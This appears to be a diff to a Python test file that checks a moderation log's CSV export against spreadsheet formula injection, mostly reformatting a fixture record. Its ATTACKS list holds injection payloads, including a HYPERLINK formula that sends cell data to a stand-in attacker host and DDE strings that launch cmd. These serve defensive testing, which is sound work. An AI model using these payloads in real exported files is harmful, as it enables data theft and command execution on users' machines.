@@ -12,23 +12,52 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from moderation.log.export import CSV_FIELDS, read_records, serialize
+from moderation.log.export import read_records, serialize
 
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
-           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+ATTACKS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def record(user_text: str, reply: str, notice: str = "", session: str = "s1") -> dict:
     """A finished turn's record, as `iter_records` gives it."""
-    return {"id": "t1", "started_at": "2026-11-27T10:00:00", "ended_at": "2026-11-27T10:00:02",
-            "session": session, "outcome": "answered", "notice": notice, "guard": "offline guard",
-            "chat": "offline chat", "chat_started": True, "tokens": 3, "stopped": False,
-            "policy": {"threshold": 0.5, "custom": [{"code": "C1", "name": "=1+1"}]}, "policy_hash": "abc",
-            "text_policy": "all", "user_text": user_text, "reply": reply,
-            "verdicts": [{"stage": "prompt", "safe": True, "note": "-1", "raw": "@safe"}],
-            "labels": [{"stage": "prompt", "seq": 0, "label": "false_negative", "categories": ["S1"],
-                        "note": user_text, "source": "operator", "author": "=op", "at": "2026-11-28T09:00:00.000Z"}]}
+    return {
+        "id": "t1",
+        "started_at": "2026-11-27T10:00:00",
+        "ended_at": "2026-11-27T10:00:02",
+        "session": session,
+        "outcome": "answered",
+        "notice": notice,
+        "guard": "offline guard",
+        "chat": "offline chat",
+        "chat_started": True,
+        "tokens": 3,
+        "stopped": False,
+        "policy": {"threshold": 0.5, "custom": [{"code": "C1", "name": "=1+1"}]},
+        "policy_hash": "abc",
+        "text_policy": "all",
+        "user_text": user_text,
+        "reply": reply,
+        "verdicts": [{"stage": "prompt", "safe": True, "note": "-1", "raw": "@safe"}],
+        "labels": [
+            {
+                "stage": "prompt",
+                "seq": 0,
+                "label": "false_negative",
+                "categories": ["S1"],
+                "note": user_text,
+                "source": "operator",
+                "author": "=op",
+                "at": "2026-11-28T09:00:00.000Z",
+            }
+        ],
+    }
 
 
 # any text, and often one that begins with a trigger or with quotes of its own
